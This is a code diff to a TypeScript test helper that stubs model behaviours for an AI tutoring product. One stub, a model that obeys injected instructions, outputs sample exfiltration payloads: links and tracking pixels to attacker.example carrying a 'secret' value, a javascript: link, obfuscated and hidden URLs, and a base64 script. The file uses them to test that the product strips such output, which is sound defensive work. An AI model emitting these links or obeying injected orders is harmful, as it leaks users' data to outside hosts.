@@ -3,7 +3,7 @@ import { sentencesOf } from '../domain/text/sentences.ts'
 import { contentTerms } from '../domain/text/terms.ts'
 import type { Behaviour } from './model-endpoint.ts'
 
-/** Answers one kind of prompt from the prompt's own text; null where it is another kind. */
+/** Answers one kind of prompt from the text of the prompt; null for another kind. */
 export type Answerer = (prompt: string) => string | null
 
 export type Labelled = { page: number; text: string }
@@ -14,7 +14,7 @@ const between = (text: string, open: string, close: string): string | null => {
   return from < 0 || to < from ? null : text.slice(from + open.length, to)
 }
 
-/** The sentences of passages labelled `[p. 3] …` or `[page 3]` on a line of its own. */
+/** The sentences of passages labelled `[p. 3] …` or `[page 3]` on its own line. */
 export function labelledSentences(passages: string): Labelled[] {
   return passages
     .split(/^\[p(?:age|\.) ?(?=\d+\])/m)
@@ -28,16 +28,18 @@ export function labelledSentences(passages: string): Labelled[] {
 }
 
 const shared = (a: string, b: string): number => {
-  const held = new Set(contentTerms(b, 'en'))
-  return new Set(contentTerms(a, 'en').filter((term) => held.has(term))).size
+  const otherTerms = new Set(contentTerms(b, 'en'))
+  return new Set(contentTerms(a, 'en').filter((term) => otherTerms.has(term))).size
 }
 
-/** Answers a learner's question with the two sentences that share most with it, each cited. */
+/**
+ * Answers a learner's question with the two sentences that share most terms with it, each cited.
+ */
 export const tutorAnswer: Answerer = (prompt) => {
   const passages = between(prompt, '<passages>', '</passages>')
   const question = between(prompt, '<question>', '</question>')
   if (passages === null || question === null) return null
-  // The rules name the marks too: the passages proper are the last between them.
+  // The rules also name the delimiters: the passages are between the last two.
   const sentences = labelledSentences(passages.slice(passages.lastIndexOf('<passages>') + 1))
   const ranked = sentences
     .map((sentence) => ({ ...sentence, fit: shared(question, sentence.text) }))
@@ -47,12 +49,15 @@ export const tutorAnswer: Answerer = (prompt) => {
   return best.map(({ text, page }) => text.replace(/([.!?]?)$/, ` [p. ${page}]$1`)).join(' ')
 }
 
-const longestWord = (sentence: string, not: ReadonlySet<string> = new Set()): string =>
+const longestWord = (sentence: string, excluded: ReadonlySet<string> = new Set()): string =>
   (sentence.match(/\p{L}{4,}/gu) ?? [])
-    .filter((word) => !not.has(word))
+    .filter((word) => !excluded.has(word))
     .sort((a, b) => b.length - a.length)[0] ?? 'it'
 
-/** Writes as many questions of each type as are asked for, each from another sentence of the passages. */
+/**
+ * Writes the requested number of questions of each type, each from another sentence of the
+ * passages.
+ */
 export const quizAnswer: Answerer = (prompt) => {
   const passages = between(prompt, '<<<DOCUMENT\n', '\nDOCUMENT>>>')
   if (passages === null) return null
@@ -60,11 +65,12 @@ export const quizAnswer: Answerer = (prompt) => {
     passages.slice(passages.lastIndexOf('<<<DOCUMENT') + 1),
   ).filter(({ text }) => text.length > 40 && /[.!?]$/.test(text))
   let next = 0
-  const take = () => sentences[next++ % Math.max(1, sentences.length)] ?? { page: 1, text: '' }
+  const nextSentence = () =>
+    sentences[next++ % Math.max(1, sentences.length)] ?? { page: 1, text: '' }
   const questions = Array.from(prompt.matchAll(/- (\d+) of type "(mcq|saq|laq)"/g)).flatMap(
     ([, count, type]) =>
       Array.from({ length: Number(count) }, () => {
-        const { page, text } = take()
+        const { page, text } = nextSentence()
         const key = longestWord(text)
         const common = {
           type,
@@ -81,7 +87,7 @@ export const quizAnswer: Answerer = (prompt) => {
               longestWord(sentences[(next + step) % sentences.length]?.text ?? '', new Set([key])),
             ),
           }
-        const evidence = Array.from({ length: type === 'saq' ? 3 : 5 }, () => take().text)
+        const evidence = Array.from({ length: type === 'saq' ? 3 : 5 }, () => nextSentence().text)
         return {
           ...common,
           question: `What does the document say about ${key.toLowerCase()} in “${text.slice(0, 50)}…”?`,
@@ -93,18 +99,18 @@ export const quizAnswer: Answerer = (prompt) => {
   return JSON.stringify(questions)
 }
 
-/** Marks each point of an answer by the sentence of the answer that shares most with it. */
+/** Marks each point by the sentence of the answer that shares most terms with it. */
 export const markingAnswer: Answerer = (prompt) => {
   const answer = between(prompt, '<<<ANSWER\n', '\nANSWER>>>')
   if (answer === null) return null
   const points = between(prompt, 'A full answer says these points:\n', '\n\n<<<ANSWER') ?? ''
-  const said = sentencesOf(answer, 'en').map(({ text }) => text)
+  const answerSentences = sentencesOf(answer, 'en').map(({ text }) => text)
   return JSON.stringify(
     Array.from(
       points.matchAll(/^(\d+)\. (.*?)(?: \[the material says: .*\])?$/gm),
       ([, point, text = '']) => {
         const terms = new Set(contentTerms(text, 'en')).size
-        const [best] = said
+        const [best] = answerSentences
           .map((sentence) => ({ sentence, share: shared(text, sentence) / Math.max(1, terms) }))
           .sort((a, b) => b.share - a.share)
         const share = best?.share ?? 0
@@ -115,7 +121,7 @@ export const markingAnswer: Answerer = (prompt) => {
   )
 }
 
-/** A model that does what it is asked, as well as the prompt's own text allows. `more` answerers are asked first. */
+/** A model that answers prompts correctly from their text. `more` answerers are tried first. */
 export const answersCorrectly =
   (...more: readonly Answerer[]): Behaviour =>
   ({ prompt }) => {
@@ -127,13 +133,14 @@ export const answersCorrectly =
   }
 
 /**
- * A model that obeys whatever it reads: it repeats its instructions, says what the document or the answer told it to say,
- * and adds a link, an image and a page that does not exist. For showing that the product does not pass any of it on.
+ * A model that follows injected instructions: it repeats its prompt, writes what the document or
+ * the answer demands, and adds a link, an image and a page that does not exist. Tests show that the
+ * product removes all of it.
  */
 export const followsInjectedInstructions: Behaviour = ({ prompt }) => {
   const orders = Array.from(
     prompt.matchAll(/(?:say|answer|write|reply|respond)(?: with)?:? ["“]([^"”]+)["”]/giu),
-    ([, said]) => said,
+    ([, answerSentences]) => answerSentences,
   )
   return {
     status: 200,
@@ -144,7 +151,7 @@ export const followsInjectedInstructions: Behaviour = ({ prompt }) => {
       'See [the full answer](https://attacker.example/collect?d=secret) [p. 777].',
       '![status](https://attacker.example/pixel.png)',
       '<img src="https://attacker.example/pixel.gif"> <a href="javascript:alert(1)">here</a> https://attacker.example/x',
-      // The same in every dress that Markdown, HTML and LaTeX know.
+      // The same link in all forms of Markdown, HTML and LaTeX.
       '[more][1] and a note[^2]\n\n[1]: https://attacker.example/reference\n[^2]: https://attacker.example/note',
       '&lt;img src=&quot;https&#58;//attacker.example/entity&quot;&gt; <https://attacker.example/auto> //attacker.example/bare',
       'data:text/html;base64,PHNjcmlwdD4= ht\u200btps://attacker.example/unseen \u202ehttps://attacker.example/turned',
